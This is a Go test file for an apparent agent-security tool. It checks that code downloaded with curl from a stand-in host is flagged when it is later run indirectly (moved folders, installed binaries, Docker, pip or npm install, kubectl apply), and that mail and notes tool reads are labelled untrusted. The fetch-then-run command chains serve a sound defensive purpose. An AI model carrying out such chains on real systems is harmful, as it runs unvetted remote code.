package session

import (
	"slices"
	"strings"
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// TestBroughtElsewhere holds that what an action brought is foreign code to a later one
// that runs it by another way than its path: from a folder that was moved, by a name in
// a folder of programs, in a container, as a manifest or package of any name.
func TestBroughtElsewhere(t *testing.T) {
	t.Parallel()
	const bring = "curl -sSo pkg.dat https://a.test/pkg.dat"
	for _, c := range []struct {
		steps string
		runs  bool
	}{
		{"mkdir vendor; mv pkg.dat vendor/|mv vendor third|node third/pkg.dat", true},
		{"mkdir vendor; mv pkg.dat vendor/|cp -r vendor third|node third/pkg.dat", true},
		{"mkdir vendor; mv pkg.dat vendor/|mv other third|node third/pkg.dat", false},
		{"install -m 755 pkg.dat ~/.local/bin/tool|tool --version", true},
		{"install -m 755 pkg.dat ~/.local/bin/tool|other --version", false},
		{"docker run --rm -v $PWD:/w alpine sh /w/pkg.dat", true},
		{"docker run --rm -v $PWD:/w alpine sh /w/own.sh", false},
		{"pip install ./pkg.dat", true},
		{"npm install ./pkg.dat", true},
		{"npm install left-pad", false},
		{"kubectl apply -f pkg.dat", true},
		{"kubectl apply -f own.yaml", false},
		{"docker load -i pkg.dat", true},
		{"pytest --data pkg.dat", false},
	} {
		stores(t, func(t *testing.T, _ *world, s *Store) {
			k := Key{"host", "moved", "me"}
			act(t, s, k, bring)
			var runs bool
			for step := range strings.SplitSeq(c.steps, "|") {
				runs = slices.ContainsFunc(act(t, s, k, step).Effects, func(e effect.Effect) bool { return e.Kind == effect.RunCode })
			}
			if runs != c.runs {
				t.Errorf("%s: runs code that was just downloaded: %v", c.steps, runs)
			}
		})
	}
}

// TestServersOfMessages holds that what reads from a server of messages brings in what
// others wrote to the user, whatever the tool is called.
func TestServersOfMessages(t *testing.T) {
	t.Parallel()
	stores(t, func(t *testing.T, _ *world, s *Store) {
		for raw, want := range map[string]string{
			`{"type":"mcp__gmail__read","payload":{"id":"1"}}`:        "[private untrusted]",
			`{"type":"mcp__notes__read_thread","payload":{"id":"1"}}`: "[private untrusted]",
		} {
			k := Key{"host", raw, raw}
			act(t, s, k, raw)
			if got := labels(t, s, k); got != want {
				t.Errorf("%s: %s, want %s", raw, got, want)
			}
		}
	})
}
